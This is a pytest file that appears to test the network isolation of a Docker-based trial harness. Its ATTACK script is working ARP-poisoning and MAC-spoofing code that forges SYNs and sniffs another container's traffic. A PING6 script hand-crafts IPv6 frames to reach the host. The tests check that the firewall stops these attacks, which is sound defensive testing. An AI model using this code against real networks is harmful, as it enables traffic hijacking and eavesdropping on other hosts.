"""A shared bridge's ports pass nothing until bound: a task image's ENTRYPOINT, running from the
container's first instant, cannot claim another trial's (or the proxy's) address in ARP, nor speak
to the proxy from it, nor reach the host over IPv6 (bridge_rules.py, firewall.py).

The attacker's ENTRYPOINT starts its attack before envloop could have bound its port, and keeps at
it for seconds after. The victim, a trial of the same worker already running, keeps its traffic,
its record and the proxy's ARP entry for its address.
"""

import asyncio
import os
import signal
import subprocess
import time
from pathlib import Path

import pytest

from envloop.environments.docker.bridge_rules import close_ports, open_ports, sweep_rules
from envloop.environments.docker.cli import docker_binary
from envloop.environments.docker.firewall import ARP_CHAIN, MAC_CHAIN, SOURCE_CHAIN
from envloop.environments.docker.images import BuildRecords
from envloop.environments.docker.orphans import sweep_orphans
from envloop.environments.docker.provider import DockerEnvironmentProvider
from envloop.tasks.harbor import load_harbor_task
from tests.docker_daemon import command_running, docker_daemon
from tests.public_trial_support import RAW, labelled, proxies, run_worker, spec_for, write_task
from tests.registries import host_of, registry_url

pytestmark = [pytest.mark.docker, pytest.mark.slow, pytest.mark.usefixtures("docker_daemon")]
__all__ = ["docker_daemon"]

ATTACK = """\
import os, random, socket, struct, sys, time
victim, victim_mac, proxy_url, proxy_mac, seconds = open("/targets").read().split()
proxy_address = proxy_url.split("//")[1].split(":")[0]
os.environ["HTTP_PROXY"] = proxy_url
exec(open("/raw.py").read().split("\\nif sys.argv")[0])  # checksum() and syn()
mac = bytes.fromhex(open("/sys/class/net/eth0/address").read().strip().replace(":", ""))
arp = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
arp.bind(("eth0", 0))
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
sniff = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.ntohs(0x0800))
sniff.setblocking(False)


def posing(as_mac):
    # Any frame from another's MAC address, so that the bridge sends that one's frames here.
    return b"\\xff" * 6 + bytes.fromhex(as_mac.replace(":", "")) + b"\\x88\\xb5" + bytes(46)


def claim(address, operation):
    # Gratuitous ARP to everyone on the bridge: `address` is at this container's MAC.
    body = struct.pack("!HHBBH", 1, 0x0800, 6, 4, operation)
    body += mac + socket.inet_aton(address) + b"\\xff" * 6 + socket.inet_aton(address)
    return b"\\xff" * 6 + mac + b"\\x08\\x06" + body


heard = sent = 0
deadline = time.time() + float(seconds)
while time.time() < deadline:
    for address in (victim, proxy_address):
        for operation in (1, 2):
            arp.send(claim(address, operation))
    for as_mac in (victim_mac, proxy_mac):
        arp.send(posing(as_mac))
    for _ in range(3):
        raw.sendto(syn(victim, 41002), (proxy_address, 0))
        sent += 1
    time.sleep(0.02)
    while True:  # the victim's packets come here (an answer to a forged SYN, or its own traffic)
        try:
            frame, where = sniff.recvfrom(65535)
        except BlockingIOError:
            break
        if where[2] != socket.PACKET_OUTGOING and socket.inet_ntoa(frame[30:34]) == victim:
            heard += 1
open("/tmp/attack", "w").write(f"{sent} {heard}\\n")
"""
HEARD = "/tmp/heard"
"""Whether the victim heard the proxy answer a SYN forged from its address (`listen` in RAW)."""
ENTRYPOINT = '#!/bin/sh\npython3 /attack.py >/tmp/attack.err 2>&1 &\nexec "$@"\n'


def _proxy_arp(proxy_address: str, address: str) -> str:
    """The MAC address the worker's proxy at `proxy_address` holds for `address` ('' when none).
    The process may hold other proxies too (an allowlist's, one being retired): this one is found by
    its address."""
    (proxy,) = [one for one in proxies() if proxy_address in _addresses(one)]
    table = subprocess.run(
        [docker_binary(), "exec", proxy, "cat", "/proc/net/arp"], capture_output=True, text=True, check=True
    ).stdout
    return _arp_entry(table, address)


def _addresses(container: str) -> list[str]:
    """The container's addresses on its networks (none when it is gone)."""
    template = "{{range .NetworkSettings.Networks}}{{.IPAddress}} {{end}}"
    inspect = [docker_binary(), "inspect", "-f", template, container]
    return subprocess.run(inspect, check=False, capture_output=True, text=True).stdout.split()


def _arp_entry(table: str, address: str) -> str:
    """The MAC address an ARP table (`/proc/net/arp`) holds for `address` ('' when none)."""
    return next((line.split()[3] for line in table.splitlines()[1:] if line.split()[0] == address), "")


def test_an_entrypoint_attacking_before_its_port_is_bound_moves_no_other_trials_traffic(
    tmp_path: Path,
) -> None:
    victim_root = write_task(tmp_path / "victim")
    (victim_root / "environment" / "raw.py").write_text(RAW)
    dockerfile = "FROM python:3.11-slim\nCOPY fetch.py raw.py /\nWORKDIR /app\n"
    (victim_root / "environment" / "Dockerfile").write_text(dockerfile)
    attacker_root = write_task(tmp_path / "attacker")
    for name, text in (("raw.py", RAW), ("attack.py", ATTACK), ("entrypoint", ENTRYPOINT)):
        (attacker_root / "environment" / name).write_text(text)
    provider = DockerEnvironmentProvider(BuildRecords(tmp_path / "builds"))
    listen = f"nohup python3 /raw.py listen 41002 10 > {HEARD} 2>&1 & sleep 1"
    fetching = f"for i in 1 2 3 4 5 6; do python3 /fetch.py {registry_url()}; sleep 0.5; done"

    async def attack() -> dict[str, str]:
        spec_v, spec_a = (spec_for(tmp_path, root, {}) for root in (victim_root, attacker_root))
        seen: dict[str, str] = {}
        async with provider.instance(load_harbor_task(victim_root), spec_v) as victim:

            async def run(*argv: str) -> str:
                return (await victim.exec(list(argv))).stdout.strip()

            address = (await run("hostname", "-i")).split()[0]
            seen["first"] = await run("python3", "/fetch.py", registry_url())
            seen["mac"] = await run("cat", "/sys/class/net/eth0/address")
            proxy = victim.network_variables()["HTTP_PROXY"]
            proxy_address = proxy.split("//")[1].split(":")[0]
            proxy_mac = _arp_entry(await run("cat", "/proc/net/arp"), proxy_address)
            await run("sh", "-c", listen)
            await asyncio.sleep(1.5)  # past the proxy's ARP lock time, so a claim would be taken
            # The attacker's image knows its targets before it starts: nothing waits for its port.
            targets = f"{address} {seen['mac']} {proxy} {proxy_mac} 6\n"
            (attacker_root / "environment" / "targets").write_text(targets)
            await run("sh", "-c", f"nohup sh -c '{fetching}' >/dev/null 2>&1 &")
            (attacker_root / "environment" / "Dockerfile").write_text(
                "FROM python:3.11-slim\nCOPY raw.py attack.py targets entrypoint /\n"
                'RUN chmod +x /entrypoint\nENTRYPOINT ["/entrypoint"]\n'
            )
            async with provider.instance(load_harbor_task(attacker_root), spec_a) as attacker:
                await attacker.exec(["sleep", "6.5"])
                seen["report"] = (await attacker.exec(["cat", "/tmp/attack", "/tmp/attack.err"])).stdout
                seen["attacker"] = (await attacker.exec(["hostname", "-i"])).stdout.split()[0]
                seen["attacker_mac"] = (await attacker.exec(["cat", "/sys/class/net/eth0/address"])).stdout
                seen["held"] = _proxy_arp(proxy_address, address)
                seen["again"] = await run("python3", "/fetch.py", registry_url())
                waited = f"until [ -s {HEARD} ]; do sleep 0.2; done; cat {HEARD}"
                seen["heard"] = await run("sh", "-c", waited)
                seen["contacted"] = " ".join(await victim.contacted_hosts())  # type: ignore[attr-defined]
            left = [line for line in _mac_rules() if seen["attacker_mac"].strip() in line]
            seen["left"] = "\n".join(_port_rules(seen["attacker"]) + left)
        return seen

    seen = asyncio.run(attack())
    assert seen["report"].split()[0].isdigit(), seen["report"]
    sent, answered = map(int, seen["report"].split()[:2])
    assert seen["first"].endswith(" 200") and sent > 100, seen
    assert answered == 0, "the victim's packets (or answers to SYNs forged from it) came to the attacker"
    assert seen["heard"] == "SILENT", "a SYN forged from the victim's address reached the proxy"
    assert seen["held"] in ("", seen["mac"]), "the proxy took the attacker's ARP claim for the victim"
    assert seen["again"].endswith(" 200"), f"the victim lost its way through the proxy: {seen['again']}"
    assert seen["contacted"] == f"{host_of(registry_url())}:443", seen["contacted"]
    assert seen["left"] == "", "the attacker's port rules outlived its trial"


def _port_rules(address: str) -> list[str]:
    """The rules binding a port to `address` (iptables and ebtables)."""
    source = subprocess.run(
        ["iptables", "-w", "-S", SOURCE_CHAIN], capture_output=True, text=True, check=True
    )
    found = [line for line in source.stdout.splitlines() if f" {address}/32 " in line]
    return found + [line for line in _arp_rules() if f" {address} " in line]


def _mac_rules() -> list[str]:
    listed = subprocess.run(
        ["ebtables", "-t", "nat", "-L", MAC_CHAIN], capture_output=True, text=True, check=True
    )
    return listed.stdout.splitlines()[3:]


PING6 = """\
import random, socket, struct, sys, time
def checksum(data):
    data += b"\\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total >> 16) + (total & 0xFFFF)
    return ~total & 0xFFFF
mac = bytes.fromhex(open("/sys/class/net/eth0/address").read().strip().replace(":", ""))
src = b"\\xfe\\x80" + bytes(6) + bytes([mac[0] ^ 2]) + mac[1:3] + b"\\xff\\xfe" + mac[3:]
def frame(dmac, dst, icmp):
    pseudo = src + dst + struct.pack("!I3xB", len(icmp), 58)
    icmp = icmp[:2] + struct.pack("!H", checksum(pseudo + icmp)) + icmp[4:]
    return dmac + mac + b"\\x86\\xdd" + struct.pack("!IHBB", 6 << 28, len(icmp), 58, 255) + src + dst + icmp
# The gateway's link-local address, from its MAC (asked for in ARP by a datagram sent its way).
routes = [line.split() for line in open("/proc/net/route").read().splitlines()[1:]]
route = next(words for words in routes if words[1] == "00000000")
gateway = socket.inet_ntoa(struct.pack("<I", int(route[2], 16)))
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"", (gateway, 9))
time.sleep(0.5)
arp = [line.split() for line in open("/proc/net/arp").read().splitlines()[1:]]
dmac = bytes.fromhex(next(words[3] for words in arp if words[0] == gateway).replace(":", ""))
dst = b"\\xfe\\x80" + bytes(6) + bytes([dmac[0] ^ 2]) + dmac[1:3] + b"\\xff\\xfe" + dmac[3:]
solicit = struct.pack("!BBHI", 135, 0, 0, 0) + dst + bytes([1, 1]) + mac  # says where to answer
echo = struct.pack("!BBHHH", 128, 0, 0, random.getrandbits(16), 1) + b"envloop"
sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.ntohs(0x86DD))
sock.bind(("eth0", 0))
sock.settimeout(0.2)
heard, deadline = "SILENT", time.time() + 3
while time.time() < deadline and heard == "SILENT":
    sock.send(frame(dmac, dst, solicit))
    sock.send(frame(dmac, dst, echo))
    end = time.time() + 0.5
    while time.time() < end:
        try:
            ip = sock.recv(65535)[14:]
        except socket.timeout:
            continue
        if ip[6] == 58 and ip[40] == 129:
            heard = "ANSWERED"
print(heard)
"""


def test_a_trial_cannot_reach_the_host_over_link_local_ipv6(tmp_path: Path) -> None:
    # The shared network is IPv4 alone and the container's IPv6 is off, but the host's bridge has a
    # link-local address: a frame made by hand reaches it, and the host would answer (an echo here;
    # a service on `::`, or a router advertisement taken, as well).
    root = write_task(tmp_path / "task")
    (root / "environment" / "ping6.py").write_text(PING6)
    (root / "environment" / "Dockerfile").write_text("FROM python:3.11-slim\nCOPY fetch.py ping6.py /\n")
    provider = DockerEnvironmentProvider(BuildRecords(tmp_path / "builds"))

    async def ping() -> tuple[str, str]:
        async with provider.instance(load_harbor_task(root), spec_for(tmp_path, root, {})) as env:
            reached = (await env.exec(["python3", "/fetch.py", registry_url()])).stdout.strip()
            return reached, (await env.exec(["python3", "/ping6.py"])).stdout.strip()

    reached, answered = asyncio.run(ping())
    assert reached.endswith(" 200"), reached  # the gateway is there, and its ARP entry with it
    assert answered == "SILENT", "the host answered a trial over IPv6"


def _arp_rules() -> list[str]:
    listed = subprocess.run(["ebtables", "-L", ARP_CHAIN], capture_output=True, text=True, check=True)
    return listed.stdout.splitlines()[3:]


def _subnets(networks: list[str]) -> list[str]:
    return [
        subprocess.run(
            [docker_binary(), "network", "inspect", name, "--format", "{{(index .IPAM.Config 0).Subnet}}"],
            capture_output=True, text=True, check=True,
        ).stdout.strip()
        for name in networks
    ]  # fmt: skip


def test_a_killed_workers_port_and_bridge_rules_are_swept(tmp_path: Path) -> None:
    # Its iptables rules carry its identity (test_docker_shared_egress.py sweeps them); ebtables
    # rules cannot: they go when their port, or their subnet's bridge, has gone.
    task = write_task(tmp_path / "task", solve="sleep 600")
    killed = spec_for(tmp_path, task, {"AGENT_NAME": "oracle"})
    dying, identity = run_worker(tmp_path, killed)
    asyncio.run(command_running(killed.trial_id, "sleep 600"))
    networks = labelled("network", f"envloop.worker={identity}")
    subnets = _subnets(networks)
    (trial,) = labelled("ps", f"envloop.trial={killed.trial_id}")
    address, mac = subprocess.run(
        [docker_binary(), "exec", trial, "sh", "-c", "hostname -i; cat /sys/class/net/eth0/address"],
        capture_output=True, text=True, check=True,
    ).stdout.split()  # fmt: skip
    assert [line for line in _mac_rules() if mac in line]  # its MAC address, its port's alone
    arp = _arp_rules()
    assert any(f"--arp-ip-src {address} " in line for line in arp), arp  # the trial's port, bound
    assert [line for line in arp if f"--arp-ip-src {subnets[0]} " in line], arp  # its bridge, closed
    os.kill(dying.pid, signal.SIGKILL)
    dying.wait(timeout=30)
    time.sleep(0.5)
    asyncio.run(sweep_orphans())  # what the next worker does when it starts
    asyncio.run(sweep_rules())
    left = _arp_rules()
    assert not [line for line in left if f" {address} " in line or f" {subnets[0]} " in line], left
    assert not _port_rules(address) and not [line for line in _mac_rules() if mac in line]


def test_a_subnet_handed_from_one_workers_bridge_to_the_next_stays_closed() -> None:
    # The daemon gives a gone network's subnet to the next network made: a worker's bridge may
    # close it before the worker that had it opens its own (removes its rules).
    subnet = "10.97.0.0/16"

    async def hand_over() -> list[int]:
        closing = [line for line in _arp_rules() if f" {subnet} " in line]
        await close_ports("elpgone0000001", subnet)
        await close_ports("elpnext0000001", subnet)
        await open_ports("elpgone0000001", subnet)
        held = [len([line for line in _arp_rules() if f" {subnet} " in line]) - len(closing)]
        await open_ports("elpnext0000001", subnet)
        return [*held, len([line for line in _arp_rules() if f" {subnet} " in line]) - len(closing)]

    assert asyncio.run(hand_over()) == [1, 0]
